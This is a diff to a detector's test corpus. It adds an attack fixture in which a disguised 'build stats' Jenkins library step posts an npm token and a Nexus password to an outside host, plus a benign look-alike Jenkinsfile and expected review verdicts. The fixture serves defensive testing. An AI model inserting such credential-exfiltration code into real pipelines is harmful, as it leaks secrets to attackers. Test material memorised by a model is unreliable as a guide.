@@ -3824,6 +3824,74 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-code-behavior'] },
   },
   {
+    id: 'attack-jenkins-library-httprequest-posts-credentials',
+    description:
+      "GhostAction's shape in a Jenkins shared library (GitGuardian, September 2025, there with workflows): a \"build stats\" PR to a library's global step (vars/notifyBuild.groovy, which every pipeline that loads the library runs) binds the npm token and the Nexus password with withCredentials and posts them in an httpRequest body to an ordinary-looking host: no curl, no request bin, no secret name in the line.",
+    fixture: () =>
+      attackPr({
+        repo: 'ci-library',
+        number: 7646,
+        title: 'feat: report build stats',
+        author: 'member',
+        files: [
+          {
+            path: 'vars/notifyBuild.groovy',
+            base: lines('def call(Map args = [:]) {', "    echo \"Build ${currentBuild.currentResult}: ${env.JOB_NAME} #${env.BUILD_NUMBER}\"", '}'),
+            head: lines(
+              'def call(Map args = [:]) {',
+              "    echo \"Build ${currentBuild.currentResult}: ${env.JOB_NAME} #${env.BUILD_NUMBER}\"",
+              "    withCredentials([string(credentialsId: 'npm-token', variable: 'T'), usernamePassword(credentialsId: 'nexus-deploy', usernameVariable: 'U', passwordVariable: 'P')]) {",
+              "        httpRequest url: 'https://build-stats.ci-metrics.net/collect', httpMode: 'POST', contentType: 'APPLICATION_JSON', requestBody: \"{\\\"job\\\":\\\"${env.JOB_NAME}\\\",\\\"t\\\":\\\"${T}\\\",\\\"p\\\":\\\"${P}\\\"}\", quiet: true",
+              '    }',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-code-behavior'] },
+  },
+  {
+    id: 'benign-jenkins-httprequest-upload-with-authentication',
+    description:
+      "The benign look-alike: a maintainer's Jenkinsfile uploads the release zip to the company's Nexus with the HTTP Request plugin, the credential passed by id as the request's authentication and the build notified to Slack with the token in a header: a pipeline's ordinary use of its credentials.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7649,
+        title: 'ci: upload the release zip to Nexus',
+        author: 'member',
+        files: [
+          {
+            path: 'Jenkinsfile',
+            base: lines('pipeline {', '    agent any', '    stages {', "        stage('Build') {", '            steps {', "                sh 'npm ci'", "                sh 'npm run build'", '            }', '        }', '    }', '}'),
+            head: lines(
+              'pipeline {',
+              '    agent any',
+              '    stages {',
+              "        stage('Build') {",
+              '            steps {',
+              "                sh 'npm ci'",
+              "                sh 'npm run build'",
+              '            }',
+              '        }',
+              "        stage('Upload') {",
+              "            when { branch 'main' }",
+              '            steps {',
+              "                httpRequest url: 'https://nexus.acme.dev/service/rest/v1/components?repository=releases', httpMode: 'POST', authentication: 'nexus-deploy', uploadFile: 'dist/tint.zip', multipartName: 'raw.asset1'",
+              "                withCredentials([string(credentialsId: 'slack-token', variable: 'SLACK_TOKEN')]) {",
+              "                    httpRequest url: 'https://slack.com/api/chat.postMessage', httpMode: 'POST', contentType: 'APPLICATION_JSON', customHeaders: [[name: 'Authorization', value: \"Bearer ${SLACK_TOKEN}\", maskValue: true]], requestBody: '{\"channel\":\"#releases\",\"text\":\"tint uploaded\"}'",
+              '                }',
+              '            }',
+              '        }',
+              '    }',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment', 'needs_discussion'], absentDrivers: ['finding:build-code-behavior'] },
+  },
+  {
     id: 'benign-jenkinsfile-test-command-edit',
     description:
       "The benign look-alike: a maintainer adds a flag to the Jenkinsfile's test step (`npm test` to `npm test -- --ci`): the pipeline reader reads its sh steps on both sides, finds one command edited and nothing else new, and the edit passes as routine.",
